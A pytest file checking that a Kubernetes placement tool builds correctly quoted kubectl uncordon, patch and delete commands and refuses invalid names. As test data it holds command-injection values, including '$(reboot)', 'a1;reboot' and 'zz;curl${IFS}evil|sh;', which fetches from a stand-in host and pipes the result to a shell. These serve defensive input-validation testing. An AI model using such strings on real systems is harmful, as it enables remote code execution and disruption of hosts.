"""Commands that are ready to paste: each for the object that it names, and none for what Kubernetes would refuse."""

from __future__ import annotations

import json
import shlex
from functools import partial

import pytest

from evenkeel.placement.kubectl_commands import (
    ClusterEdit,
    asking,
    commands,
    deleting,
)
from evenkeel.placement.kubectl_commands import read_template as template_for
from evenkeel.placement.template_edits import requesting_less, tolerating, with_constraint, without_node_affinity
from evenkeel.scheduler.resource_fit import Lack
from tests.support.build import workload
from tests.support.placement import parsed
from tests.support.placing import HOSTNAME, spread
from webhook.spread.taints import Toleration

TOLERATED = partial(tolerating, toleration=Toleration("dedicated", "Equal", "infra", "NoSchedule"))


def read_template(raw, pod=None):
    """The template for a Pod that has its spec, or another."""
    spec = {} if raw is None else raw.get("spec", {}).get("template", {}).get("spec", {})
    return template_for(raw, spec if pod is None else pod)


def larger_skew(spec):
    return with_constraint(spec, constraint=parsed(spread())[0], fields={"maxSkew": 3})


UNCORDON = ClusterEdit(("uncordon", "a1"), ("a1",))
HOSTILE = ["$(reboot)", "a b", "a1\nuncordon b1", "-f", "", "A1", "a1;reboot", "é"]


def web(*constraints, **metadata):
    made = workload("Deployment", *constraints, **metadata)
    made["spec"]["template"]["spec"]["containers"] = [{"name": "c"}]
    return made


def test_what_is_done_to_a_node():
    (command,) = commands((UNCORDON,), None)

    assert "kubectl uncordon a1" == str(command)
    assert command.patch is None


def test_a_template_is_patched_with_a_test_of_what_was_there():
    template = read_template(web(spread(), spread(HOSTNAME)))
    (command,) = commands((larger_skew, TOLERATED), template)
    *words, operations = shlex.split(str(command))

    assert ["kubectl", "patch", "deployment.apps/web", "-n", "shop", "--type=json", "-p"] == words
    at = "/spec/template/spec"
    assert [
        {"op": "test", "path": f"{at}/tolerations", "value": None},
        {"op": "add", "path": f"{at}/tolerations", "value": TOLERATED({})["tolerations"]},
        {"op": "test", "path": f"{at}/topologySpreadConstraints", "value": [spread(), spread(HOSTNAME)]},
        {"op": "replace", "path": f"{at}/topologySpreadConstraints", "value": [spread(maxSkew=3), spread(HOSTNAME)]},
    ] == json.loads(operations)
    assert [*command.patch.operations] == json.loads(operations)


def test_changes_are_made_in_their_order_and_all_of_a_template_at_once():
    edits = (UNCORDON, larger_skew, deleting("shop", "a"), TOLERATED)
    made = commands(edits, read_template(web(spread())))

    assert ["uncordon", "patch", "delete"] == [command.arguments[0] for command in made]
    assert 4 == len(made[1].patch.operations)


def test_there_is_no_command_for_half_a_change():
    template = read_template(web(spread()))

    assert () == commands(None, template)
    assert () == commands((UNCORDON, larger_skew), None)
    assert () == commands((larger_skew,), read_template(web(spread(HOSTNAME))))  # a template without this constraint


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_kubernetes_would_refuse_is_in_no_command(name):
    assert () == commands((ClusterEdit(("uncordon", name), (name,)),), None)
    assert () == commands(
        (ClusterEdit(("taint", "node", "a1", f"{name}:NoSchedule-"), ("a1",), (f"{name}!", "")),), None
    )
    assert () == commands((ClusterEdit(("label", "node", "a1", f"a={name}!"), ("a1",), ("a", f"{name}!")),), None)
    assert () == commands((TOLERATED,), read_template(web(spread(), name=name)))
    assert () == commands((TOLERATED,), read_template(web(spread(), namespace=name)))


def test_values_in_a_patch_are_quoted():
    hostile = "a'; reboot '\n$(reboot)"
    made = web({**spread(), "labelSelector": {"matchLabels": {"app": hostile}}})
    (command,) = commands((TOLERATED, larger_skew), read_template(made))

    assert "\n" not in str(command)
    assert list(command.arguments) == shlex.split(str(command))[1:]
    value = json.loads(command.arguments[-1])[-1]["value"]
    assert hostile == value[0]["labelSelector"]["matchLabels"]["app"]


def test_a_template_that_cannot_be_changed_or_patched_has_no_command():
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "web", "namespace": "shop"}}

    there = {"containers": [{"name": "c"}]}

    assert read_template(job | {"spec": {"template": web(spread())["spec"]["template"]}}) is None
    assert read_template(None) is None
    assert read_template({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": there}) is None


def test_the_template_of_a_cron_job_is_that_of_its_jobs():
    pod_spec = {"containers": [{"name": "c"}]}
    spec = {"jobTemplate": {"spec": {"template": {"spec": pod_spec}}}}
    made = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "web", "namespace": "shop"}, "spec": spec}
    (command,) = commands((TOLERATED,), read_template(made))

    assert "/spec/jobTemplate/spec/template/spec/tolerations" == command.patch.operations[0]["path"]


def test_of_a_container_only_the_requests_are_written():
    """What else it has may not have been read."""
    made = web(spread())
    container = {"name": "c", "resources": {"requests": {"cpu": "600m"}, "limits": {"cpu": "1"}}}
    made["spec"]["template"]["spec"]["containers"] = [container]
    less = partial(requesting_less, lack=Lack(0, 200, 0, 0, ()))
    (command,) = commands((less,), read_template(made))

    at = "/spec/template/spec/containers/0/resources/requests/cpu"
    assert (
        {"op": "test", "path": at, "value": "600m"},
        {"op": "replace", "path": at, "value": "400m"},
    ) == command.patch.operations


def test_what_a_pod_has_not_from_the_template_is_not_changed_there():
    """It is of an old revision, or admission has added something."""
    made = web(spread())
    there = made["spec"]["template"]["spec"]
    there |= {"containers": [{"name": "c", "resources": {"requests": {"cpu": "2"}}}], "nodeSelector": {"disk": "ssd"}}
    less = partial(requesting_less, lack=Lack(0, 200, 0, 0, ()))
    injected = [{"name": "sidecar", "resources": {"requests": {"cpu": "1"}}}, there["containers"][0]]

    assert commands((less, without_node_affinity), read_template(made))
    assert commands((less,), read_template(made, {**there, "containers": injected}))
    larger = [{"name": "c", "resources": {"requests": {"cpu": "3"}}}]
    assert () == commands((less,), read_template(made, {**there, "containers": larger}))
    assert () == commands((without_node_affinity,), read_template(made, {**there, "nodeSelector": {"disk": "hdd"}}))
    tolerated = web(spread())
    tolerated["spec"]["template"]["spec"] |= TOLERATED({})
    assert () == commands((TOLERATED,), read_template(tolerated))


def test_a_pod_is_asked_about_by_a_name_that_kubernetes_may_have():
    assert "evenkeel explain pod/a -n shop" == asking("shop", "a")
    assert "evenkeel explain pod/a -n shop --cluster 'a b'" == asking("shop", "a", ("--cluster", "a b"))
    assert "evenkeel explain" == asking("shop", "zz;curl${IFS}evil|sh;")
